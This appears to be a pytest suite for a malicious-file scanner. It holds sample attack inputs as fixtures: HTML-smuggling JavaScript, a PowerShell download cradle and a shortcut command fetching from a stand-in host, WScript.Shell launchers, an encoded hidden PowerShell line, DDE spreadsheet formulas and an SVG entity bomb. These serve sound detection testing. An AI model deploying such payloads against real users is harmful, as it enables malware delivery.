from __future__ import annotations

import base64

import pytest

from ecluse.opening.flags import Flag
from tests.cpu import cpu
from tests.unit.opening.asking import opened

PROGRAM = b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0" + b"\0" * 90
BASE64 = base64.b64encode(PROGRAM).decode()
HAND_OVER = 'var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([a]));l.download="x";l.click();'


def page(script: str) -> bytes:
    return f"<!doctype html><html><body><script>{script}</script></body></html>".encode()


@pytest.mark.parametrize(
    "script",
    [
        f'var d=atob("{BASE64}");{HAND_OVER}',
        f'var p={[BASE64[at : at + 9] for at in range(0, len(BASE64), 9)]};var d=atob(p.join(""));{HAND_OVER}',
        f"var a=new Uint8Array({list(PROGRAM)});var d=atob('');var k='{BASE64[:100]}';{HAND_OVER}",
    ],
)
def test_a_file_built_by_a_script_is_found_with_what_it_is(script):
    assert {Flag.HTML_SMUGGLING, Flag.EXECUTABLE} <= set(opened(page(script), "a.html").flags)


@pytest.mark.parametrize(
    "script",
    [
        "document.getElementById('a').onclick=function(){window.open('https://x.example/')}",
        "var b=new Blob([table.innerText]);a.href=URL.createObjectURL(b);a.download='t.csv';a.click()",
        "var i=new Image();i.src='data:image/png;base64," + "A" * 200 + "'",
    ],
)
def test_scripts_of_honest_pages_are_scripts_and_nothing_more(script):
    flags = set(opened(page(script), "a.html").flags)
    assert Flag.HTML_SCRIPT in flags
    assert not flags & {Flag.HTML_SMUGGLING, Flag.SUSPICIOUS_SCRIPT, Flag.OBFUSCATED_SCRIPT, Flag.EXECUTABLE}


OTHER_SIGNS = [
    *("GIF89a", "%PDF-1.4 ", "\0\1\2\0\0", "regedit4 ", "ID;P"),
    "<html><p>must be converted with binhex</p>",
    "<html>\nbegin 644 a.txt\n#0V%T\n`\nend\n",
    "<html>\n=ybegin line=1 name=a\n",
    "<html><jnlp >",
    "<html>\n[InternetShortcut]\n",
]


@pytest.mark.parametrize("sign", OTHER_SIGNS)
def test_what_is_called_a_page_is_read_as_one_whatever_else_it_looks_like(sign):
    form = "<form action='https://a.example/'><input type=password></form>"
    html = f"{sign}<body>{form}<script>var d=atob('{BASE64}');{HAND_OVER}</script>".encode()
    found = opened(html, "a.html ")
    assert {Flag.HTML_SMUGGLING, Flag.PASSWORD_FORM, Flag.EXECUTABLE} <= set(found.flags)
    assert found.type not in {"html", "hta"}


def test_what_is_called_a_script_is_read_as_one_whatever_else_it_looks_like():
    script = b"/* must be converted with binhex */ new ActiveXObject('WScript.Shell').Run('cmd /c x')"
    assert {Flag.SCRIPT, Flag.SUSPICIOUS_SCRIPT} <= set(opened(script, "a.js").flags)


@pytest.mark.parametrize("name", ["a.html", "a.svg", "a.js", "a.url", "a.eml", "a.mht", "a.wsf"])
def test_octets_that_are_nothing_are_nothing_by_any_name(name):
    flags = set(opened(bytes(range(256)) * 10, name).flags)
    assert flags <= {Flag.SCRIPT}


def test_what_a_data_url_holds_is_looked_into():
    html = f"<html><a download=a.exe href='data:application/octet-stream;base64,{BASE64}'>x</a>"
    assert {Flag.HTML_SMUGGLING, Flag.EXECUTABLE} <= set(opened(html.encode(), "a.html").flags)


def test_links_redirects_and_password_forms_are_told():
    html = b"""<html><meta http-equiv=refresh content="0; url=http://r.example/"><base href=http://b.example/>
    <form action=http://f.example/post><input type=password></form><iframe src=//i.example/x></iframe><p>or http://t.example/."""
    file = opened(html, "a.html")
    assert {"http://r.example/", "http://b.example/", "http://f.example/post", "http://t.example/"} <= set(file.urls)
    assert file.external_links == ("//i.example/x",)
    assert {Flag.HTML_REDIRECT, Flag.PASSWORD_FORM} <= set(file.flags)
    assert Flag.HTML_SCRIPT not in file.flags


def test_a_drawing_with_a_script_is_told_and_one_without_is_not():
    assert Flag.SVG_SCRIPT in opened(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').flags
    assert Flag.SVG_SCRIPT in opened(b"<svg><script>location='http://x.example/'</script></svg>").flags
    assert (
        opened(
            b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"/><a href="http://x.example/">t</a></svg>'
        ).flags
        == ()
    )


def test_entities_of_a_drawing_are_never_expanded():
    bomb = b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg><text>&b;</text></svg>'
    assert "declares entities" in opened(bomb).error


@pytest.mark.parametrize(
    ("name", "script"),
    [
        ("a.js", 'var s=new ActiveXObject("WScript"+".Shell");s.Run("calc")'),
        ("a.vbs", 'Set s = CreateObject("WScript.Shell")\nOn Error Resume Next\ns.Run "po^wer^shell"'),
        ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"),
        ("a.bat", "@echo off\r\npowershell -w hidden -enc " + "QQBB" * 30),
    ],
)
def test_scripts_that_start_programs_are_told(name, script):
    assert {Flag.SCRIPT, Flag.SUSPICIOUS_SCRIPT} <= set(opened(script.encode(), name).flags)


def shell_link(arguments: str) -> bytes:
    head = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + (0x20 | 0x80).to_bytes(4, "little")
    return head.ljust(76, b"\0") + len(arguments).to_bytes(2, "little") + arguments.encode("utf-16-le")


def test_the_command_of_a_shortcut_is_read():
    file = opened(shell_link("/c powershell -c iwr http://x.example/a.exe"), "Invoice.lnk")
    assert Flag.SHORTCUT_COMMAND in file.flags
    assert "http://x.example/a.exe" in file.urls


def test_shortcuts_to_files_elsewhere_are_told_and_those_to_pages_are_links():
    program = opened(b"[InternetShortcut]\r\nURL=file://x.example@80/share/a.lnk\r\n", "a.url")
    assert {Flag.REMOTE_SHORTCUT, Flag.REMOTE_PROGRAM} <= set(program.flags)
    share = opened(b"[InternetShortcut]\r\nURL=file://server/plans/2026.xlsx\r\n", "a.url")
    assert Flag.REMOTE_SHORTCUT in share.flags
    assert Flag.REMOTE_PROGRAM not in share.flags
    page = opened(b"[InternetShortcut]\r\nURL=https://x.example/\r\n", "a.url")
    assert page.urls == ("https://x.example/",)
    assert Flag.REMOTE_SHORTCUT not in page.flags


def test_a_web_query_loads_from_elsewhere():
    assert opened(b"WEB\r\n1\r\nhttp://x.example/q\r\n").external_links == ("http://x.example/q",)


@pytest.mark.parametrize(
    "cell", ["=cmd|'/c calc'!A0", "1,2,\"=2+5+cmd|' /C calc'!A0\"", "a;@SUM(1+1)*cmd|'/c calc'!A0"]
)
def test_formulas_that_start_programs_are_told(cell):
    assert Flag.DDE in opened(f"a,b,c\r\n{cell}\r\n".encode(), "a.csv").flags


@pytest.mark.parametrize("bars", [3, 200])
def test_such_a_cell_is_found_among_bars_that_are_none(bars):
    before = "a|'b',c\r\n" * bars
    assert Flag.DDE in opened(f"{before}=cmd|'/c calc'!A1\r\n".encode(), "a.csv").flags
    assert Flag.DDE not in opened(before.encode(), "a.csv").flags


@pytest.mark.parametrize("text", ["a|b|c\r\n=|'x'\r\n", "= Title | 'quoted' text!\r\n", "| table | 'x' |\r\n+---+\r\n"])
def test_texts_with_bars_are_no_formulas(text):
    assert Flag.DDE not in opened(text.encode(), "a.txt").flags


def test_links_of_calendars_are_found_over_folded_lines():
    text = b"BEGIN:VCALENDAR\r\nDESCRIPTION:join https://x.example/\r\n meeting\\, now\r\nEND:VCALENDAR\r\n"
    assert opened(text).urls == ("https://x.example/meeting",)


def test_a_file_does_not_hide_behind_many_pictures():
    pictures = "".join(f"<img src='data:image/png;base64,iVBORw0KGgo{number:04}'>" for number in range(200))
    program = base64.b64encode(b"MZ" + bytes(200)).decode()
    html = f"<html>{pictures}<a href='data:application/octet-stream;base64,{program}'>x</a>"
    flags = opened(html.encode(), "a.html").flags
    assert "executable" in flags
    assert "limit" not in flags


def test_more_files_than_are_looked_at_are_a_limit():
    files = "".join(f"<a href='data:,{number}'>x</a>" for number in range(501))
    assert "limit" in opened(f"<html>{files}".encode(), "a.html").flags


@pytest.mark.parametrize("between", ["\n " * 90 + "x", " " * 199 + "-", "a" * 199, "_\n" * 99, " a" * 90])
def test_what_stands_between_pieces_costs_little(between):
    script = f"'QUJD'{between}".encode() * 1_000
    with cpu() as spent:
        opened(script, "a.js")
    assert spent.seconds < 2.0
